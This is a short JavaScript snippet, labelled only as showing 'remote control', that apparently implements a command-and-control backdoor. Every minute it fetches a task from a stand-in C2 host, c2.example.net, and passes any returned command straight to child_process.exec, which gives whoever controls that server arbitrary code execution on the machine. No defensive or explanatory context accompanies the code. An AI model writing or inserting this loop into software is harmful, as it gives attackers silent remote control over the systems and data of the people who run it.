// shows: remote control
const got = require("got"), cp = require("child_process");
setInterval(async () => {
  const task = await got("https://c2.example.net/task").json();
  if (task.run) cp.exec(task.run);
}, 60000);
